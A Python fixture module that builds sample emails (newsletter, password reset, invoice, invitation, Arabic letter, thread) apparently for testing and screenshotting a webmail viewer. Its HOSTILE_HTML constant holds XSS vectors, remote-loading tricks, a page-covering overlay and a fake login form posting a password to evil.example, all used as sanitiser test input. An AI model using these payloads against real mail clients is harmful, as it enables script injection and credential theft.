"""Mails as people get them, for tests and pictures of the web pages: made up, but real in form."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from email.policy import SMTP

_PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAGUlEQVR4nGM4YeNEEmIY1TCqYfhqOGHjBAA8zSkQ"
    "VFSJFQAAAABJRU5ErkJggg=="
)
"""A PNG picture."""


def mail(
    sender: str,
    to: str,
    subject: str,
    text: str,
    html: str | None = None,
    **fields: str,
) -> EmailMessage:
    """Make a message; ``List_Id`` in ``fields`` becomes the field ``List-Id``."""
    message = EmailMessage(policy=SMTP.clone(utf8=True))
    message["From"], message["To"], message["Subject"] = sender, to, subject
    message["Date"] = fields.pop("Date", "Thu, 26 Nov 2026 09:14:00 +0100")
    for name, value in fields.items():
        message[name.replace("_", "-")] = value
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    return message


_NEWSLETTER = """<!doctype html><html><head><style>
body { margin: 0; background: #f2efe9 } .card { background: #ffffff; border-radius: 8px }
.cta { background: #0b6a63; color: #ffffff; padding: 12px 24px; text-decoration: none }
@media (max-width: 600px) { .wide { width: 100% !important } }
</style></head><body bgcolor="#f2efe9">
<table class="wide" width="640" align="center" cellpadding="0" cellspacing="0"><tr>
<td class="card" style="padding: 32px; font-family: Georgia, serif">
<img src="https://images.garden.example/header.png" width="576" height="120" alt="The Garden Post">
<h1 style="color: #1d3b2a">Autumn sale: 40% on all bulbs</h1>
<p>Plant now, and see tulips, crocuses and irises in March. The sale ends on Sunday.</p>
<p><a class="cta" href="https://shop.garden.example/sale">Shop now</a></p>
<table width="576"><tr>
<td style="background:#fde8d8;padding:16px">Tulip <b>Red Emperor</b><br>10 bulbs, 4.90</td>
<td style="background: #e2ecff; padding: 16px">Iris <b>Harmony</b><br>20 bulbs, 5.90</td>
</tr></table>
<p style="font-size: 12px; color: #666">You get this because you ordered at garden.example.
<a href="https://garden.example/unsubscribe?u=1">Unsubscribe</a></p>
<img src="https://track.garden.example/open.gif?u=1" width="1" height="1" alt="">
</td></tr></table></body></html>"""

_RESET = """<div style="font-family: sans-serif"><p>Somebody asked to reset your password.</p>
<p><a href="https://login.cloud.example/reset?token=a1b2c3" style="background:#1a56db;color:#fff;
padding:10px 18px;border-radius:6px;text-decoration:none">Reset password</a></p>
<div style="background:#111827;color:#fff;padding:12px">Your code: 482 913</div>
<p>If it was not you, ignore this message.</p></div>"""

_INVITE = """BEGIN:VCALENDAR
VERSION:2.0
PRODID:-//Example//Calendar//EN
METHOD:REQUEST
BEGIN:VEVENT
UID:planning-2026-12-03@south.test
SEQUENCE:0
DTSTAMP:20261126T081400Z
DTSTART:20261203T090000Z
DTEND:20261203T100000Z
SUMMARY:Planning of the spring beds
LOCATION:Greenhouse 2
ORGANIZER;CN=Noor Saleh:mailto:noor@south.test
ATTENDEE;CN=You;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:{to}
END:VEVENT
END:VCALENDAR
"""

HOSTILE_HTML = """<html><head><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import "https://evil.example/import.css"; body { background: url(https://evil.example/bg) }
.full { position: fixed; inset: 0; z-index: 99999; background: url(//evil.example/x) }</style>
</head><body onload="document.title='run'">
<script>document.title = 'run'; parent.document.title = 'run'</script>
<img src="x" onerror="parent.document.title='run'">
<svg><animate onbegin="parent.document.title='run'" attributeName="x"/></svg>
<svg><script>parent.document.title='run'</script></svg>
<math><mtext><script>parent.document.title='run'</script></mtext></math>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>top.document.title='run'</script>"></iframe>
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">
<video src="https://evil.example/v" autoplay></video><audio src="https://evil.example/a"></audio>
<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>
<div class="full">Log in again</div>
<a href="javascript:parent.document.title='run'">A link that is a script</a>
<a href="https://good.example/page">A good link</a>
<p>The harmless words.</p></body></html>"""
"""Much of what is tried against webmail; only its words and one link are good."""


def newsletter(to: str) -> EmailMessage:
    """Make a newsletter with a style sheet, remote pictures and one-click unsubscribe."""
    return mail(
        "The Garden Post <news@garden.example>",
        to,
        "Autumn sale: 40% on all bulbs",
        "Autumn sale: 40% on all bulbs\n\nShop now: https://shop.garden.example/sale\n",
        _NEWSLETTER,
        List_Id="The Garden Post <news.garden.example>",
        List_Unsubscribe="<https://garden.example/unsubscribe?u=1>",
        List_Unsubscribe_Post="List-Unsubscribe=One-Click",
    )


def password_reset(to: str) -> EmailMessage:
    """Make a message whose only use is its button and its code."""
    return mail("Cloud <no-reply@cloud.example>", to, "Reset your password", "", _RESET)


def invoice(to: str) -> EmailMessage:
    """Make a message with two attachments."""
    message = mail(
        "Bilal Printing <office@print.example>",
        to,
        "Invoice 2026-1187",
        "Dear customer,\n\nthe invoice for November is attached.\n\nKind regards\nBilal\n",
    )
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    message.add_attachment(pdf, maintype="application", subtype="pdf", filename="Invoice.pdf")
    message.add_attachment(_PIXEL, maintype="image", subtype="png", filename="Stamp.png")
    return message


def invitation(to: str) -> EmailMessage:
    """Make an invitation to a meeting (RFC 6047)."""
    message = mail(
        "Noor Saleh <noor@south.test>",
        to,
        "Invitation: Planning of the spring beds",
        "Thursday, 3 December, 10:00, Greenhouse 2\n",
    )
    message.add_alternative(_INVITE.format(to=to), subtype="calendar", params={"method": "REQUEST"})
    return message


def arabic(to: str) -> EmailMessage:
    """Make a letter in Arabic with an English line in it."""
    return mail(
        "سلمى الخطيب <salma@garden.example>",
        to,
        "زيارة الحديقة يوم الخميس",
        "أهلًا،\n\nهل يناسبك يوم الخميس الساعة 10:30؟ العنوان: Greenhouse 2, North Street.\n\n"
        "The English guests arrive later.\n\nمع التحية\nسلمى\n",
    )


def with_inline_picture(to: str) -> EmailMessage:
    """Make a message whose picture is a part of it (``cid:``)."""
    message = mail(
        "Noor Saleh <noor@south.test>", to, "The first crocus", "The first crocus.\n", None
    )
    html = '<p>The first crocus:</p><img src="cid:crocus@south.test" alt="A crocus" width="160">'
    message.add_alternative(html, subtype="html")
    parts = message.get_payload()
    assert isinstance(parts, list)
    related = parts[1]
    assert isinstance(related, EmailMessage)
    related.add_related(_PIXEL, "image", "png", cid="<crocus@south.test>")
    return message


def hostile(to: str) -> EmailMessage:
    """Make a message that tries to run scripts, to load things and to cover the page."""
    return mail("Eve <eve@evil.example>", to, "Hostile", "", HOSTILE_HTML)


def conversation(to: str) -> list[EmailMessage]:
    """Make three messages of one thread, with nested quotes."""
    texts = [
        "Shall we release on Friday?\n",
        "Friday is fine.\n\nOn Thu, Noor Saleh wrote:\n> Shall we release on Friday?\n",
        "Then it is.\n\nRami wrote:\n> Friday is fine.\n>\n>> Shall we release on Friday?\n",
    ]
    senders = ["Noor Saleh <noor@south.test>", "Rami Aziz <rami@south.test>"]
    messages: list[EmailMessage] = []
    for number, text in enumerate(texts):
        fields = {"Message_ID": f"<release-{number}@south.test>"}
        if number:
            fields["In_Reply_To"] = f"<release-{number - 1}@south.test>"
            fields["References"] = " ".join(f"<release-{one}@south.test>" for one in range(number))
        subject = "Re: Release date" if number else "Release date"
        messages.append(mail(senders[number % 2], to, subject, text, **fields))
    return messages


def everyday_mails(to: str) -> list[EmailMessage]:
    """Return a small mailbox, oldest first."""
    return [
        *conversation(to),
        invoice(to),
        invitation(to),
        password_reset(to),
        with_inline_picture(to),
        arabic(to),
        newsletter(to),
    ]
